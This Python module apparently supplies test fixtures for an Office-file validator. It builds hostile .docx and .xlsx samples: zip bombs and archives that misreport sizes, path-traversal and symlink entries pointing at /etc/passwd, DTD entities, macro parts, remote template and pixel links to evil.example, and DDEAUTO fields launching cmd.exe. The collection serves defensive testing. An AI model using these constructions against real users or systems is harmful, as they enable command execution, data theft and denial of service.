"""Office files that do harm, made from honest ones."""

import io
import re
import struct
import zlib
from collections.abc import Mapping
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import xlsxwriter
from docx import Document

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def workbook() -> bytes:
    """A table of one message, with a link as offices have them."""
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, {"in_memory": True}) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, ["标题", "内容", "链接"])
        page.write_row(1, 0, ["统计报表系统登录不上", "月底填报总是卡住", "https://forum.example/t/1"])
    return body.getvalue()


def document() -> bytes:
    """A template with one placeholder."""
    body, made = io.BytesIO(), Document()
    made.add_paragraph("{{ title }}")
    made.save(body)
    return body.getvalue()


def changed(content: bytes, parts: Mapping[str, bytes | None]) -> bytes:
    """The same archive with other parts; null takes one out."""
    body = io.BytesIO()
    with ZipFile(io.BytesIO(content)) as old, ZipFile(body, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            if part is not None:
                new.writestr(ZipInfo(name), part, ZIP_DEFLATED)
    return body.getvalue()


def with_relation(content: bytes, rels: str, kind: str, target: str, *, external: bool = True) -> bytes:
    """One more relation in a list of relations."""
    with ZipFile(io.BytesIO(content)) as archive:
        text = archive.read(rels).decode()
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rId99" Type="{_RELATION}{kind}" Target="{target}"{mode}/>'
    return changed(content, {rels: text.replace("</Relationships>", line + "</Relationships>").encode()})


def with_field(content: bytes, *runs: str) -> bytes:
    """A field of a document, its instruction spread over runs."""
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    with ZipFile(io.BytesIO(content)) as archive:
        text = archive.read("word/document.xml").decode()
    paragraph = f"<w:p>{begin}{said}{begin.replace('begin', 'end')}</w:p>"
    return changed(content, {"word/document.xml": re.sub("<w:body>", f"<w:body>{paragraph}", text).encode()})


def lying(size: int, says: int) -> bytes:
    """An archive whose directory states another size than its part has, with the checksum of the smaller one."""
    name, plain = b"xl/workbook.xml", b"<a>" + b" " * (size - 7) + b"</a>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(plain) + packer.flush()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(plain[:says]), len(packed), says, len(name), 0)
    local = b"PK\x03\x04" + common + name + packed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def overlapping(parts: int) -> bytes:
    """An archive whose parts are all the same packed bytes: small on disk, large once opened."""
    name, plain = "a{:04}.xml", b"<a>" + b"0" * 100_000 + b"</a>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(plain) + packer.flush()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(plain), len(packed), len(plain), 9, 0)
    local = b"PK\x03\x04" + common + name.format(0).encode() + packed
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.format(at).encode()
        for at in range(parts)
    )
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, parts, parts, len(central), len(local), 0)


DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'
DTD_16 = '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16-le")


def linked_part() -> bytes:
    """A part that is a symbolic link."""
    body = io.BytesIO()
    with ZipFile(body, "w") as archive:
        entry = ZipInfo("word/media/a.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return body.getvalue()


def locked() -> bytes:
    """An archive that says its part needs a password."""
    body = bytearray(changed(workbook(), {}))
    at = body.index(b"PK\x01\x02")
    body[at + 8] |= 1
    return bytes(body)


def twice() -> bytes:
    """A part that stands twice: two readers would see two files."""
    body = changed(workbook(), {"xl/workbook.xmm": b"<other/>"})
    return body.replace(b"xl/workbook.xmm", b"xl/workbook.xml")


_WORD_RELS = "word/_rels/document.xml.rels"
_BOOK_RELS = "xl/_rels/workbook.xml.rels"
#: Words of the refusal, and a template that earns it.
HOSTILE_DOCUMENTS = {
    "bomb": ("size", lambda: changed(document(), {"word/bomb.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})),
    "ratio": ("size", lambda: changed(document(), {"word/media/a.png": b"\0" * 20_000_000})),
    "parts": ("members", lambda: changed(document(), {f"word/a{at}.xml": b"<a/>" for at in range(2_001)})),
    "climbs": ("path", lambda: changed(document(), {"../../outside.xml": b"<a/>"})),
    "absolute": ("path", lambda: changed(document(), {"/etc/outside.xml": b"<a/>"})),
    "drive": ("path", lambda: changed(document(), {"C:/outside.xml": b"<a/>"})),
    "backslash": ("path", lambda: changed(document(), {"word\\..\\..\\outside.xml": b"<a/>"})),
    "symbolic link": ("path", linked_part),
    "relation climbs": (
        "path",
        lambda: with_relation(document(), _WORD_RELS, "image", "../../../../etc/passwd", external=False),
    ),
    "dtd": ("markup", lambda: changed(document(), {"word/settings.xml": DTD})),
    "dtd in UTF-16": ("markup", lambda: changed(document(), {"word/settings.xml": DTD_16})),
    "macros": ("macro", lambda: changed(document(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros by another name": (
        "macro",
        lambda: with_relation(document(), _WORD_RELS, "vbaProject", "a.png", external=False),
    ),
    "control": ("macro", lambda: changed(document(), {"word/activeX/activeX1.xml": b"<a/>"})),
    "template elsewhere": (
        "link",
        lambda: with_relation(document(), _WORD_RELS, "attachedTemplate", "https://evil.example/a.dotm"),
    ),
    "picture elsewhere": (
        "link",
        lambda: with_relation(document(), _WORD_RELS, "image", "https://evil.example/pixel.png"),
    ),
    "link into a share": (
        "link",
        lambda: with_relation(document(), _WORD_RELS, "hyperlink", "file://evil.example/share"),
    ),
    "DDE": ("link", lambda: with_field(document(), "DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "DDE over runs": ("link", lambda: with_field(document(), " DD", "E", " cmd")),
    "included file": ("link", lambda: with_field(document(), 'INCLUDETEXT "/etc/passwd"')),
}
HOSTILE_WORKBOOKS = {
    "bomb": ("size", lambda: changed(workbook(), {"xl/bomb.xml": b"<a>" + b" " * 20_000_000 + b"</a>"})),
    "lies about its size": ("size", lambda: lying(900_000, 100)),
    "overlapping": ("members", lambda: overlapping(2_001)),
    "climbs": ("path", lambda: changed(workbook(), {"../outside.xml": b"<a/>"})),
    "twice": ("path", twice),
    "locked": ("locked", locked),
    "dtd": ("markup", lambda: changed(workbook(), {"xl/styles.xml": DTD})),
    "macros": ("macro", lambda: changed(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "old macros": ("macro", lambda: changed(workbook(), {"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "other workbook": ("link", lambda: changed(workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    "other workbook by another name": (
        "link",
        lambda: with_relation(workbook(), _BOOK_RELS, "externalLink", "a.xml", external=False),
    ),
    "database": ("link", lambda: changed(workbook(), {"xl/connections.xml": b"<a/>"})),
}
